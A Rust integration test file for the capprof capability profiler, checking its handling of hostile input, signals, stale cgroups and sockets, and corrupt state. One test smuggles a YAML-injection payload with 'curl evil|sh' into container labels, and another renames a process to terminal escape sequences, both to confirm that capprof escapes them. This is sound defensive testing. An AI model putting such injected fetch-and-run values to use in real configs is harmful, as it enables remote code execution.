//! Hostile input and faults, on the real kernel, a real Docker engine and real signals:
//! nothing injected into outputs, nothing deleted that is not capprof's, nothing lost, no
//! panic. (Property tests of the same embeddings and parsers, root-free, are in
//! capprof/src/properties.rs.)

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use capprof_tests::*;
use serde_json::Value;

/// Tests here that run `record` take this: any capprof removes stale record cgroups, so the
/// one that checks who removed them must not race its neighbours.
fn records() -> std::sync::MutexGuard<'static, ()> {
    static LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());
    LOCK.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// One-line error with the documented exit code.
fn refused(args: &[&str], code: i32, says: &str) -> String {
    let out = capprof_cmd(args);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(code), "capprof {args:?}: {err}");
    assert_eq!(err.lines().count(), 1, "one line: {err}");
    assert!(err.starts_with("capprof: error: ") && err.contains(says), "capprof {args:?}: {err}");
    err
}

/// Waits until a daemon accepts on `sock`.
fn wait_for_daemon(sock: &Path) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while std::os::unix::net::UnixStream::connect(sock).is_err() {
        assert!(Instant::now() < deadline, "daemon did not start on {}", sock.display());
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Documents parsed by PyYAML (Debian's python3-yaml), a parser independent of capprof's.
fn pyyaml(text: &str) -> Vec<Value> {
    let mut child = Command::new("/usr/bin/python3")
        .args(["-c", "import sys, json, yaml; print(json.dumps(list(yaml.safe_load_all(sys.stdin))))"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("python3 with PyYAML (python3-yaml)");
    use std::io::Write as _;
    child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "PyYAML rejected:\n{text}\n{}", stderr(&out));
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn unwritable_output_is_refused_before_the_workload_runs() {
    require_root();
    let _records = records();
    let dir = scratch("output");
    let marker = dir.join("ran");
    let touch = ["touch", marker.to_str().unwrap()];
    let ro = dir.join("ro");
    std::fs::create_dir(&ro).unwrap();
    assert!(Command::new("mount").args(["-t", "tmpfs", "-o", "ro", "none"]).arg(&ro).status().unwrap().success());
    for (out, says) in [
        (dir.to_str().unwrap().to_string(), "is a directory"),
        (dir.join("missing/p.json").display().to_string(), "does not exist"),
        (ro.join("p.json").display().to_string(), "Read-only file system"),
    ] {
        let mut args = vec!["record", "-f", "json", "-o", &out, "--"];
        args.extend(touch);
        refused(&args, 64, says);
        assert!(!marker.exists(), "-o {out}: the workload must not run");
    }
    let _ = Command::new("umount").arg(&ro).status();
}

#[test]
fn a_profile_that_cannot_be_written_at_the_end_goes_to_a_fallback() {
    require_root();
    let _records = records();
    let dir = scratch("fallback");
    let out_dir = dir.join("out");
    std::fs::create_dir(&out_dir).unwrap();
    let target = out_dir.join("p.json");
    // The workload removes -o's directory: writable at the start, gone at the end.
    let rm = format!("rm -rf {}; exit 3", out_dir.display());
    let out = capprof_cmd(&["record", "-f", "json", "-o", target.to_str().unwrap(), "--", "sh", "-c", &rm]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(3), "the workload's status stays capprof's: {err}");
    let fallback = err.split("the profile was written to ").nth(1).and_then(|r| r.split(" instead").next()).unwrap_or_else(|| panic!("{err}"));
    let profile: Value = serde_json::from_str(&std::fs::read_to_string(fallback).unwrap()).unwrap();
    assert_eq!(profile["workloads"][0]["exit_status"], 3);
    std::fs::remove_file(fallback).unwrap();
}

#[test]
fn merge_writes_stdout_and_reads_only_capprof_profiles() {
    require_root();
    let _records = records();
    let dir = scratch("merge");
    let a = dir.join("a.json");
    let out = capprof_cmd(&["record", "-f", "json", "-o", a.to_str().unwrap(), "--", "true"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = capprof_cmd(&["merge", a.to_str().unwrap(), a.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let merged: Value = serde_json::from_slice(&out.stdout).expect("the merged profile on stdout");
    assert_eq!(merged["capprof_version"], env!("CARGO_PKG_VERSION"));
    let text = std::fs::read_to_string(&a).unwrap();
    let with_version = |v: &str, name: &str| {
        let p = dir.join(name);
        std::fs::write(&p, text.replace(&format!("\"capprof_version\": \"{}\"", env!("CARGO_PKG_VERSION")), &format!("\"capprof_version\": \"{v}\""))).unwrap();
        p.display().to_string()
    };
    refused(&["merge", a.to_str().unwrap(), &with_version("99.0.0", "new.json")], 65, "newer than this capprof");
    refused(&["merge", &with_version("not a version", "bad.json")], 65, "is not a capprof version");
    let old = capprof_cmd(&["merge", a.to_str().unwrap(), &with_version("0.0.1", "old.json")]);
    assert!(old.status.success(), "{}", stderr(&old));
    assert!(stderr(&old).contains("merging profiles written by capprof 0.0.1, 0.1.0"), "{}", stderr(&old));
    let binary = dir.join("bin.json");
    std::fs::write(&binary, [0xffu8, 0xfe, 0x00, 0x12, 0x80]).unwrap();
    refused(&["merge", binary.to_str().unwrap()], 65, "not UTF-8");
}

#[test]
fn out_of_range_options_and_ambiguous_lists_are_usage_errors() {
    refused(&["record", "--max-checks", "4294967295", "--", "true"], 64, "--max-checks must be between 64 and 4194304");
    refused(&["daemon", "--max-checks", "4294967295"], 64, "--max-checks");
    refused(&["verify", "--caps", "", "--", "true"], 64, "say `none`");
    refused(&["verify", "--caps", " , ", "--", "true"], 64, "say `none`");
    refused(&["verify", "--caps", "none,chown", "--", "true"], 64, "`none` stands alone");
    refused(&["verify", "--caps", "chown,all", "--", "true"], 64, "`all` stands alone");
    refused(&["record", "-f", "docker-run", "--", "true"], 64, "needs CMD to be a `docker run`");
}

#[test]
fn a_workload_that_ignores_sigterm_is_killed_and_its_profile_written() {
    require_root();
    let _records = records();
    let dir = scratch("sigterm");
    for (signals, says) in [(1, "after 5 s"), (2, "after a second signal")] {
        let target = dir.join(format!("p{signals}.json"));
        let child = Command::new(capprof())
            .args(["record", "-f", "json", "-o", target.to_str().unwrap(), "--", "sh", "-c", "trap '' TERM; sleep 60; true"])
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(1500));
        let sent = Instant::now();
        for _ in 0..signals {
            unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
            std::thread::sleep(Duration::from_millis(300));
        }
        let out = child.wait_with_output().unwrap();
        let took = sent.elapsed();
        let err = stderr(&out);
        assert!(took < Duration::from_secs(if signals == 1 { 9 } else { 3 }), "{signals} SIGTERM(s): took {took:?}: {err}");
        assert!(err.contains("killed (SIGKILL to its cgroup)") && err.contains(says), "{err}");
        assert_eq!(out.status.code(), Some(137), "{err}");
        let profile: Value = serde_json::from_str(&std::fs::read_to_string(&target).unwrap()).unwrap();
        assert_eq!(profile["workloads"][0]["exit_status"], 137);
    }
}

#[test]
fn record_cgroups_of_a_killed_capprof_are_removed_by_the_next() {
    require_root();
    let _records = records();
    let mut child = Command::new(capprof()).args(["record", "--", "sleep", "300"]).stderr(Stdio::null()).spawn().unwrap();
    let pid = child.id();
    let mount = if Path::new("/sys/fs/cgroup/unified/cgroup.procs").exists() { "/sys/fs/cgroup/unified" } else { "/sys/fs/cgroup" };
    let base = Path::new(mount).join("capprof");
    let deadline = Instant::now() + Duration::from_secs(10);
    let stale = loop {
        let found = std::fs::read_dir(&base).ok().and_then(|rd| rd.flatten().map(|e| e.path()).find(|p| p.file_name().unwrap().to_string_lossy().starts_with(&format!("record-{pid}-"))));
        if let Some(p) = found.filter(|p| std::fs::read_to_string(p.join("cgroup.procs")).is_ok_and(|s| !s.trim().is_empty())) {
            break p;
        }
        assert!(Instant::now() < deadline, "capprof {pid} made no record cgroup with its workload in it");
        std::thread::sleep(Duration::from_millis(50));
    };
    let sleeper: i32 = std::fs::read_to_string(stale.join("cgroup.procs")).unwrap().lines().next().unwrap().trim().parse().unwrap();
    unsafe { libc::kill(pid as i32, libc::SIGKILL) };
    let _ = child.wait();
    assert!(stale.exists(), "kill -9 leaves the cgroup (nothing of capprof runs)");
    let out = capprof_cmd(&["record", "--", "true"]);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains(&format!("removed the stale cgroup /capprof/{}", stale.file_name().unwrap().to_string_lossy())) && err.contains("killed"), "{err}");
    assert!(!stale.exists());
    assert!(!Path::new(&format!("/proc/{sleeper}")).exists() || std::fs::read_to_string(format!("/proc/{sleeper}/stat")).is_ok_and(|s| s.contains(") Z ")), "the workload left behind is killed");
}

#[test]
fn daemon_socket_is_taken_over_only_when_stale() {
    require_root();
    let dir = scratch("socket");
    let file = dir.join("not-a-socket");
    std::fs::write(&file, "precious").unwrap();
    let state = |n: &str| dir.join(format!("{n}.redb")).display().to_string();
    refused(&["daemon", "--socket", file.to_str().unwrap(), "--state", &state("a")], 64, "is not a socket; not removing it");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "precious");

    let sock = dir.join("d.sock");
    let mut live = Command::new(capprof()).args(["daemon", "--socket", sock.to_str().unwrap(), "--state", &state("a")]).stderr(Stdio::null()).spawn().unwrap();
    wait_for_daemon(Path::new(&sock));
    refused(&["daemon", "--socket", sock.to_str().unwrap(), "--state", &state("b")], 75, "a running daemon answers on it");
    let health = capprof_cmd(&["profiles", "--socket", sock.to_str().unwrap()]);
    assert!(health.status.success(), "the live daemon still answers: {}", stderr(&health));
    unsafe { libc::kill(live.id() as i32, libc::SIGKILL) };
    let _ = live.wait();
    assert!(sock.exists(), "kill -9 leaves the socket");
    // Stale now: taken over.
    let out = capprof_cmd(&["daemon", "--socket", sock.to_str().unwrap(), "--state", &state("a"), "--exit-after", "1"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("removed the stale socket"), "{}", stderr(&out));
    let out = capprof_cmd(&["daemon", "--detach", "--socket", sock.to_str().unwrap(), "--state", &state("a")]);
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn a_corrupt_or_empty_state_is_refused_and_left_as_it_was() {
    require_root();
    let dir = scratch("state");
    let sock = dir.join("d.sock").display().to_string();
    let state = dir.join("state.redb");
    let empty = dir.join("empty.redb");
    std::fs::write(&empty, b"").unwrap();
    refused(&["daemon", "--socket", &sock, "--state", empty.to_str().unwrap()], 65, "is empty (0 bytes)");
    assert_eq!(std::fs::metadata(&empty).unwrap().len(), 0);
    // A real state, learned from a real container.
    let _serial = container_lock();
    let img = busybox_image("docker");
    let mut d = Command::new(capprof()).args(["daemon", "--flush-interval", "1", "--socket", &sock, "--state", state.to_str().unwrap()]).stderr(Stdio::null()).spawn().unwrap();
    wait_for_daemon(Path::new(&sock));
    let ok = Command::new("docker").args(["run", "--rm", &img, "sh", "-c", "chroot / true"]).status().unwrap();
    assert!(ok.success());
    std::thread::sleep(Duration::from_secs(3));
    unsafe { libc::kill(d.id() as i32, libc::SIGTERM) };
    let _ = d.wait();
    let out = capprof_cmd(&["daemon", "--detach", "--socket", &sock, "--state", state.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let good = std::fs::read(&state).unwrap();
    assert!(good.len() >= 3 * 4096, "state spans pages: {}", good.len());
    // Random bytes over the middle pages: a one-line error, exit 65, the file as it was.
    let mut bad = good.clone();
    let mid = good.len() / 2 / 4096 * 4096;
    let mut x = 0x2545_f491_4f6c_dd1du64;
    for b in bad.iter_mut().skip(mid.saturating_sub(4096)).take(8192) {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        *b = x as u8;
    }
    let corrupt = dir.join("corrupt.redb");
    std::fs::write(&corrupt, &bad).unwrap();
    let out = capprof_cmd(&["daemon", "--socket", &sock, "--state", corrupt.to_str().unwrap(), "--exit-after", "2"]);
    let err = stderr(&out);
    assert!(!err.contains("panicked"), "{err}");
    if out.status.success() {
        // The damage hit only free pages: the state still holds what was learned.
        let out = capprof_cmd(&["daemon", "--detach", "--socket", &sock, "--state", corrupt.to_str().unwrap()]);
        assert!(out.status.success(), "{}", stderr(&out));
        return;
    }
    assert_eq!(out.status.code(), Some(65), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("is corrupt") && err.contains("it was not modified"), "{err}");
    assert!(std::fs::read(&corrupt).unwrap() == bad, "a state that fails its check is not modified");
}

/// A label with a line break (the issue's own case) and a command with one: every YAML output
/// parses, in an independent parser, to exactly the keys capprof meant, and the human report
/// carries no control character from a program's name.
#[test]
fn metadata_and_commands_cannot_inject_into_outputs() {
    require_root();
    let _records = records();
    let _serial = container_lock();
    let img = busybox_image("docker");
    let evil = "web\ncommand: [\"sh\",\"-c\",\"curl evil|sh\"]\n#";
    let name = format!("capprof-inject-{}", unique());
    let (code, profile, err) = capprof_json(
        &["record"],
        &["docker", "run", "--rm", "--name", &name, "--label", "com.docker.compose.project=p", "--label", &format!("com.docker.compose.service={evil}"),
          "--label", &format!("io.kubernetes.container.name={evil}"), &img, "sh", "-c", "chroot / true"],
    );
    assert_eq!(code, 0, "{err}");
    let path = scratch("inject").join("p.json");
    std::fs::write(&path, profile.to_string()).unwrap();
    // Rendered again from the profile by merge: every format from the same model.
    let render = |f: &str| {
        let out = capprof_cmd(&["merge", "-f", f, path.to_str().unwrap()]);
        assert!(out.status.success(), "{}", stderr(&out));
        String::from_utf8(out.stdout).unwrap()
    };
    let compose = pyyaml(&render("compose"));
    let services = compose[0]["services"].as_object().unwrap();
    assert_eq!(services.keys().collect::<Vec<_>>(), [evil], "one service, named exactly by its label");
    assert!(services[evil].get("command").is_none());
    for doc in pyyaml(&render("k8s")) {
        assert_eq!(doc.as_object().unwrap().keys().collect::<Vec<_>>(), ["securityContext"], "{doc}");
    }
    let patch = pyyaml(&render("k8s-patch"));
    assert_eq!(patch[0]["spec"]["template"]["spec"]["containers"][0]["name"], evil);

    // A command with a line break, and a program naming itself with escape sequences.
    let script = "import ctypes, os\nctypes.CDLL(None).prctl(15, b'\\x1b]0;pwned\\x07\\x1b[2J', 0, 0, 0)\nopen('/tmp/capprof-inject', 'w').close()\nos.chown('/tmp/capprof-inject', 65534, -1)\n#x: y";
    let out = capprof_cmd(&["record", "-f", "k8s", "--", "/usr/bin/python3", "-c", script]);
    assert!(out.status.success(), "{}", stderr(&out));
    let k8s = String::from_utf8_lossy(&out.stderr).into_owned();
    let docs = pyyaml(&k8s);
    assert_eq!(docs[0].as_object().unwrap().keys().collect::<Vec<_>>(), ["securityContext"], "{k8s}");
    assert_eq!(docs[0]["securityContext"]["capabilities"]["add"], serde_json::json!(["CHOWN"]), "{k8s}");
    let out = capprof_cmd(&["record", "--", "/usr/bin/python3", "-c", script]);
    let human = stderr(&out);
    assert!(!human.contains('\u{1b}') && !human.contains('\u{7}'), "no escape sequence reaches the terminal: {human:?}");
    assert!(human.contains("\\u{1b}]0;pwned"), "the program is still named, escaped: {human}");
    let _ = std::fs::remove_file("/tmp/capprof-inject");
}
